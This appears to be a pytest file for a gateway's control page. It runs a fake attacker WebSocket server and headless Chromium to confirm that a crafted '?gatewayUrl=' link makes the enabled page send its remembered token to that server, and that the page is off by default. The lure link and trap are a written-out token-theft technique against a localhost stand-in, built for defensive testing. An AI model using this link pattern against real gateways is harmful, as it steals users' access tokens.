"""The gateway's control page: off, because a web page can take the token through it.

A page of this gateway version believes the address in `?gatewayUrl=` and sends the token that the
browser remembers there. The first test shows that the trap used here catches that.
"""

import json
import shutil
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from threading import Thread

import pytest
from websockets.exceptions import ConnectionClosed
from websockets.sync.server import ServerConnection, serve

from harness import process
from harness.poll import until
from tests.conftest import REPOSITORY
from tests.start.conftest import Start
from tests.start.container import DEVELOPMENT, PRODUCTION, TOKEN, Options, Running

pytestmark = [
    pytest.mark.engine,
    pytest.mark.browser,
    pytest.mark.slow,
    pytest.mark.xdist_group("start"),
]

CONFIG = "deploy/gateway/clawdbot.json"
_BROWSERS = ("chromium", "chromium-browser", "google-chrome")
_CHALLENGE = {"type": "event", "event": "connect.challenge", "payload": {"nonce": "n"}}


@dataclass
class Trap:
    """A WebSocket server of somebody who wants the token."""

    port: int
    heard: list[str] = field(default_factory=list)


@pytest.fixture
def trap() -> Iterator[Trap]:
    """The trap, set."""
    heard: list[str] = []

    def listen(connection: ServerConnection) -> None:
        heard.append("connected")
        connection.send(json.dumps(_CHALLENGE))
        try:
            heard.extend(str(message) for message in connection)
        except ConnectionClosed:
            return

    with serve(listen, "127.0.0.1", 0) as server:
        thread = Thread(target=server.serve_forever)
        thread.start()
        yield Trap(server.socket.getsockname()[1], heard)
        server.shutdown()
        thread.join()


@dataclass(frozen=True)
class Browser:
    """A real browser with a profile that remembers."""

    program: str
    profile: Path

    def visit(self, url: str) -> str:
        """Open a page, give it 4 s, and return what has become of it."""
        options = ["--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={self.profile}"]
        words = [self.program, *options, "--timeout=4000", "--dump-dom", url]
        return process.run(words, timeout=60).stdout


@pytest.fixture
def browser(tmp_path: Path) -> Browser:
    """The machine's Chromium."""
    program = next(filter(None, map(shutil.which, _BROWSERS)), None)
    if program is None:
        pytest.skip(f"needs a browser: none of {', '.join(_BROWSERS)} is installed")
    return Browser(program, tmp_path / "profile")


def lure(run: Running, browser: Browser, trap: Trap) -> str:
    """Use the page with the token, then follow an attacker's link; return the page."""
    gateway = f"http://127.0.0.1:{run.port(18789)}"
    browser.visit(f"{gateway}/?token={TOKEN}")
    return browser.visit(f"{gateway}/?gatewayUrl=ws://127.0.0.1:{trap.port}")


@pytest.fixture
def page_on(tmp_path: Path) -> Options:
    """The gateway's configuration with the page on, in the place of the image's own."""
    settings = json.loads((REPOSITORY / CONFIG).read_text(encoding="utf-8"))
    settings["gateway"]["controlUi"]["enabled"] = True
    path = tmp_path / "clawdbot.json"
    path.write_text(json.dumps(settings), encoding="utf-8")
    path.chmod(0o644)
    return Options(binds={"/opt/loa/gateway/clawdbot.json": path})


def test_with_the_page_on_the_trap_gets_the_token(
    start: Start, browser: Browser, trap: Trap, page_on: Options
) -> None:
    run = start(PRODUCTION, options=page_on)
    run.wait()
    # On a busy machine the page may be closed before it has spoken.
    until(
        lambda: "<script" in lure(run, browser, trap) and TOKEN in "".join(trap.heard),
        seconds=120,
        what="the token in the trap",
    )


@pytest.mark.parametrize("script", [PRODUCTION, DEVELOPMENT], ids=["prod", "dev"])
def test_by_default_the_page_is_not_served_and_nothing_is_sent(
    start: Start, browser: Browser, trap: Trap, script: str
) -> None:
    run = start(script)
    run.wait()
    for path in ("/", "/index.html", "/chat", "/?gatewayUrl=ws://127.0.0.1:1", "/favicon.ico"):
        answer = run.get(path)
        assert answer is not None
        assert answer.status_code == 404, path
    # A page without a script cannot send anything later either.
    assert "<script" not in lure(run, browser, trap)
    assert trap.heard == []
